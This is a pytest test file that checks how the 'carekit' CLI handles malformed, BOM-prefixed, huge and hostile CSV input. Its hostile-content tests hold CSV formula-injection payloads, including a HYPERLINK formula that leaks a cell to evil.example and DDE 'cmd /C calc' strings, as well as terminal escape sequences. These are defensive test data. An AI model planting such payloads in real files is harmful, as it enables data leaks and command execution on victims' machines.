"""Every ``carekit`` command fed malformed, BOM-prefixed, huge and hostile files.

What each must do: read Excel's "CSV UTF-8" (a byte-order mark) like plain UTF-8; refuse a
malformed file (an unterminated quote, a column named twice, text after a closing quote, not
UTF-8, not a file at all) with exactly one line on stderr naming the file and line, and exit
status 2; answer huge files in bounded time; never write a spreadsheet formula into a CSV it
writes, and never copy a control character from the data to the terminal.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import pathlib
import subprocess
import sys
from collections.abc import Callable

import pytest
from tests.timebox import finishes_within

from carekit.cli import main

T0 = dt.datetime(2026, 3, 2, 9, tzinfo=dt.timezone.utc)
ESC = "\x1b"
FORMULAS = ("=", "+", "-", "@", "\t", "\r")


def _events(n: int) -> list[str]:
    rows = ["journey_id,event,at"]
    for i in range(n):
        at = (T0 + dt.timedelta(minutes=i)).isoformat()
        rows.append(f"o-{i // 2},{'place' if i % 2 == 0 else 'acknowledge'},{at}")
    return rows


def _responses(n: int) -> list[str]:
    return ["date,store,nps"] + [
        f"2026-{1 + i % 12:02d}-{1 + i % 28:02d},s{i % 7},{i % 11}" for i in range(n)
    ]


def _orders(n: int) -> list[str]:
    rows = ["ordered_at,delivered_at,product"]
    for i in range(n):
        ordered = T0 + dt.timedelta(minutes=7 * i)
        delivered = ordered + dt.timedelta(days=3 + i % 9)
        rows.append(f"{ordered.isoformat()},{delivered.isoformat()},p{i % 3}")
    return rows


def _forecast(n: int) -> list[str]:
    return ["interval_start,volume"] + [
        f"{(T0 + dt.timedelta(minutes=30 * i)).isoformat()},{50 + i % 40}" for i in range(n)
    ]


def _roster(n: int) -> list[str]:
    return ["shift,start,hours,agents"] + [
        f"s{i},{(T0 + dt.timedelta(hours=i)).isoformat()},8,{3 + i % 4}" for i in range(n)
    ]


# Each command: (how to build a good file of n rows, the arguments around its path).
COMMANDS: dict[str, tuple[Callable[[int], list[str]], Callable[[str], list[str]]]] = {
    "journey replay": (_events, lambda p: ["journey", "replay", p, "--progress", "never"]),
    "metrics": (_responses, lambda p: ["metrics", p, "--score-column", "nps", "--by", "store"]),
    "promise": (_orders, lambda p: ["promise", p, "--segment", "product"]),
    "staffing": (_forecast, lambda p: ["staffing", p, "--aht", "180", "--service-level",
                                       "80/20"]),
    "staffing --roster": (
        _roster,
        lambda p: ["staffing", str(pathlib.Path(p).parent / _ROSTER_FORECAST), "--aht", "180",
                   "--service-level", "80/20", "--roster", p],
    ),
}
_ROSTER_FORECAST = "forecast-for-roster.csv"


@pytest.fixture(autouse=True)
def _forecast_file(tmp_path: pathlib.Path) -> None:
    # "staffing --roster" reads a good forecast beside the roster under test.
    lines = _forecast(24)
    (tmp_path / _ROSTER_FORECAST).write_text("\n".join(lines) + "\n", encoding="utf-8")


def _run(argv: list[str]) -> tuple[int, str]:
    out = io.StringIO()
    try:
        status = main(argv, out=out)
    except SystemExit as done:  # argparse errors
        status = int(done.code or 0)
    return status, out.getvalue()


def _one_clean_error_line(err: str, command: str) -> str:
    assert err.endswith("\n") and err.count("\n") == 1, err
    assert err.startswith(f"carekit {command.split(maxsplit=1)[0]}"), err
    assert ": error: " in err, err
    assert "Traceback" not in err and ESC not in err, err
    return err


def _write(path: pathlib.Path, lines: list[str], *, bom: bool = False) -> str:
    path.write_text(("\ufeff" if bom else "") + "\n".join(lines) + "\n", encoding="utf-8")
    return str(path)


# -- malformed files ------------------------------------------------------------------------


@pytest.mark.parametrize("command", COMMANDS)
def test_excel_csv_utf8_with_a_bom_reads_like_plain_utf8(
    tmp_path: pathlib.Path, command: str
) -> None:
    # Regression: replay, staffing and promise refused the BOM ("no column 'journey_id'").
    make, argv = COMMANDS[command]
    plain = _write(tmp_path / "plain.csv", make(40))
    bom = _write(tmp_path / "bom.csv", make(40), bom=True)
    status, text = _run(argv(plain))
    assert status == 0
    assert _run(argv(bom)) == (0, text.replace("plain.csv", "bom.csv"))


@pytest.mark.parametrize("command", COMMANDS)
def test_an_unterminated_quote_is_refused_naming_the_line(
    tmp_path: pathlib.Path, command: str, capsys: pytest.CaptureFixture[str]
) -> None:
    # Regression: one unterminated quote swallowed the 10 rows after it into one field,
    # and the replay reported 1 journey with exit status 0.
    make, argv = COMMANDS[command]
    lines = make(12)
    lines[3] = lines[3] + ',"never closed'
    path = _write(tmp_path / "quote.csv", lines)
    status, _ = _run(argv(path))
    err = _one_clean_error_line(capsys.readouterr().err, command)
    assert status == 2
    assert f"{path} line 4: a quoted field that starts on this line is never closed" in err


@pytest.mark.parametrize("command", COMMANDS)
def test_other_malformed_files_are_one_line_errors(
    tmp_path: pathlib.Path, command: str, capsys: pytest.CaptureFixture[str]
) -> None:
    make, argv = COMMANDS[command]
    good = make(6)
    column = good[0].split(",")[1]
    cases = {
        # A duplicated header column used to win silently (the last one was kept).
        "duplicate": ([f"{good[0]},{column}", *good[1:]],
                      f"line 1: the header names column {column!r} twice"),
        "after quote": ([good[0], '"x"y' + good[1][good[1].index(","):], *good[2:]],
                        "line 2: text after a closing quote"),
        "empty": ([""], "column"),
        "header only": ([good[0]], ""),
    }
    for name, (lines, message) in cases.items():
        path = _write(tmp_path / f"{name}.csv", lines)
        status, _ = _run(argv(path))
        if name == "header only" and command in ("journey replay", "staffing --roster"):
            assert status == 0  # an empty log replays to nothing; a roster may be empty
            capsys.readouterr()
            continue
        err = _one_clean_error_line(capsys.readouterr().err, command)
        assert status == 2 and message in err, (name, err)
    (tmp_path / "folder.csv").mkdir()
    latin = tmp_path / "latin.csv"
    latin.write_bytes("\n".join(good).replace("o-", "\xe9-").encode("latin-1") + b"\xff\n")
    for path, message in [
        (str(latin), "latin.csv: the file is not UTF-8 text"),
        # The file and the reason, as a reader says it (not "[Errno 2] ...").
        (str(tmp_path / "missing.csv"), "cannot open '" + str(tmp_path / "missing.csv")
         + "': No such file or directory"),
        (str(tmp_path / "folder.csv"), "folder.csv': Is a directory"),
    ]:
        status, _ = _run(argv(path))
        err = _one_clean_error_line(capsys.readouterr().err, command)
        assert status == 2 and message in err, err


def test_bad_options_and_names_are_one_line_errors(capsys: pytest.CaptureFixture[str]) -> None:
    # Regression: --loop 1e300 passed the argument check, then time.sleep overflowed
    # and printed a traceback.
    for argv, message in [
        (["journey", "dispatch", "--db", "x.db", "--loop", "1e300"],
         "argument --loop: expected a number of seconds above 0 and at most 86,400"),
        (["journey", "diagram", f"evil{ESC}[2J"], "no journey named 'evil\\x1b[2J'"),
        (["metrics", "x.csv"], "the following arguments are required: --score-column"),
        (["staffing", "x.csv", "--aht", "ten", "--service-level", "80/20"],
         "argument --aht: expected seconds (300) or a length with its unit (5min, 1h, PT5M) "
         "(got 'ten')"),
    ]:
        status, _ = _run(argv)
        err = _one_clean_error_line(capsys.readouterr().err, " ".join(argv[:1]))
        assert status == 2 and message in err, err


def test_journey_list_and_diagram_print_clean_text() -> None:
    status, text = _run(["journey", "list"])
    assert status == 0 and "order" in text and ESC not in text
    status, text = _run(["journey", "diagram", "order"])
    assert status == 0 and "flowchart" in text and ESC not in text


# -- huge files -----------------------------------------------------------------------------


@pytest.mark.slow
@pytest.mark.parametrize("command", ["journey replay", "metrics", "promise", "staffing"])
def test_huge_files_are_answered_in_bounded_time(
    tmp_path: pathlib.Path, command: str, capsys: pytest.CaptureFixture[str]
) -> None:
    make, argv = COMMANDS[command]
    path = _write(tmp_path / "huge.csv", make(200_000))
    with finishes_within(120):  # a hang guard: each takes 1-10 s here
        status, text = _run(argv(path))
    assert status == 0 and text
    # An unterminated quote near the top of a huge file fails at once, naming its line.
    lines = (tmp_path / "huge.csv").read_text(encoding="utf-8").splitlines()
    lines[2] += ',"'
    _write(tmp_path / "huge.csv", lines)
    with finishes_within(30):
        status, _ = _run(argv(path))
    err = _one_clean_error_line(capsys.readouterr().err, command)
    assert status == 2 and "huge.csv line 3:" in err


# -- hostile content ------------------------------------------------------------------------


HOSTILE_SEGMENTS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _is_formula(cell: str) -> bool:
    if not cell.startswith(FORMULAS):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False  # a plain number such as -2.5 is not a formula


def test_metrics_csv_output_neutralises_formula_cells(tmp_path: pathlib.Path) -> None:
    # Regression: --format csv --by store wrote these segment names raw, so a
    # spreadsheet opening the output would run them.
    rows = [["date", "store", "nps"]]
    rows += [["2026-01-0" + str(i + 1), segment, str(9 - i)]
             for i, segment in enumerate(HOSTILE_SEGMENTS)]
    path = tmp_path / "responses.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(rows)
    status, text = _run(["metrics", str(path), "--score-column", "nps", "--by", "store",
                         "--format", "csv"])
    assert status == 0
    cells = _cells(text)
    assert not [c for c in cells if _is_formula(c)]
    segments = {c for c in cells if c.startswith("'")}
    # Every hostile segment is kept, behind an apostrophe; the carriage return (a control
    # character) is shown escaped, as everywhere the command writes.
    assert segments == {"'" + s.replace("\r", "\\x0d") for s in HOSTILE_SEGMENTS}
    assert any(c.startswith("-") for c in cells)  # negative numbers are left as numbers
    # The table and JSON outputs carry no raw control character either.
    for fmt in ("table", "json"):
        status, text = _run(["metrics", str(path), "--score-column", "nps", "--by", "store",
                             "--format", fmt])
        shown = "\\x0d=1+1" if fmt == "table" else "\\r=1+1"  # JSON escapes it its way
        assert status == 0 and "\r" not in text and shown in text


def test_staffing_csv_output_keeps_negative_numbers_and_has_no_formula(
    tmp_path: pathlib.Path,
) -> None:
    forecast = _write(tmp_path / "forecast.csv", _forecast(8))
    roster = _write(tmp_path / "roster.csv", _roster(2))
    status, text = _run(["staffing", forecast, "--aht", "180", "--service-level", "80/20",
                         "--roster", roster, "--format", "csv"])
    assert status == 0
    cells = _cells(text)
    assert not [c for c in cells if _is_formula(c)]
    assert any(c.startswith("-") and float(c) < 0 for c in cells)  # gaps, as numbers



def test_promise_and_replay_csv_output_neutralises_formula_cells(
    tmp_path: pathlib.Path,
) -> None:
    rows = [["ordered_at", "delivered_at", "product"]]
    for i in range(60):
        ordered = T0 + dt.timedelta(hours=7 * i)
        rows.append([ordered.isoformat(), (ordered + dt.timedelta(days=3 + i % 5)).isoformat(),
                     HOSTILE_SEGMENTS[i % len(HOSTILE_SEGMENTS)]])
    orders = tmp_path / "orders.csv"
    with orders.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(rows)
    events = tmp_path / "events.csv"
    with events.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(
            [["journey_id", "event", "at"]]
            + [[segment, "place", T0.isoformat()] for segment in HOSTILE_SEGMENTS[:4]])
    # (journey ids are stripped of surrounding white space: the first four, which have none)
    for argv, hostile in (
        (["promise", str(orders), "--segment", "product", "--format", "csv"], HOSTILE_SEGMENTS),
        (["journey", "replay", str(events), "--format", "csv"], HOSTILE_SEGMENTS[:4]),
    ):
        status, text = _run(argv)
        assert status == 0, argv
        cells = _cells(text)
        assert not [c for c in cells if _is_formula(c)], argv
        kept = {c for c in cells if c.startswith("'")}
        assert kept == {"'" + s.replace("\r", "\\x0d") for s in hostile}, argv

def test_reports_escape_control_characters_from_the_data(tmp_path: pathlib.Path) -> None:
    evil = f"{ESC}[2J{ESC}[31mPWNED{ESC}[0m\u202e"
    events = _write(tmp_path / "events.csv", [
        "journey_id,event,at",
        f"{evil},place,2026-03-01T09:00:00+00:00",
        "o-2,place,2026-03-02T09:00:00+00:00",
        f"o-3,{evil},2026-03-02T09:00:00+00:00",  # a rejected event: listed as a problem
    ])
    status, text = _run(["journey", "replay", events, "--now", "2026-03-20T00:00:00+00:00"])
    assert status == 1  # a problem row
    assert ESC not in text and "\u202e" not in text
    assert "\\x1b[2J\\x1b[31mPWNED\\x1b[0m\\u202e" in text  # shown, escaped
    orders = _write(tmp_path / "orders.csv", ["ordered_at,delivered_at,product"] + [
        f"2026-03-0{1 + i % 5}T09:00:00+00:00,2026-03-1{i % 5}T09:00:00+00:00,{evil}"
        for i in range(30)
    ])
    status, text = _run(["promise", orders, "--segment", "product"])
    assert status == 0 and ESC not in text and "\\x1b[31mPWNED" in text
    responses = _write(tmp_path / "responses.csv", ["date,store,nps", f"2026-01-01,{evil},9"])
    status, text = _run(["metrics", responses, "--score-column", "nps", "--by", "store"])
    assert status == 0 and ESC not in text and "\\x1b[31mPWNED" in text


@pytest.mark.slow
def test_the_real_terminal_gets_no_escape_bytes(tmp_path: pathlib.Path) -> None:
    # As a terminal gets it: a separate process, bytes read from its stdout.
    events = _write(tmp_path / "events.csv", [
        "journey_id,event,at", f"{ESC}[2J{ESC}[31mPWNED{ESC}[0m,place,2026-03-01T09:00:00+00:00",
    ])
    done = subprocess.run(
        [sys.executable, "-m", "carekit.cli", "journey", "replay", events,
         "--now", "2026-03-20T00:00:00+00:00"],  # overdue: the journey id is printed
        capture_output=True, timeout=120, check=False,
    )
    assert done.returncode == 0, done.stderr
    assert b"\x1b" not in done.stdout and b"\\x1b[31mPWNED" in done.stdout
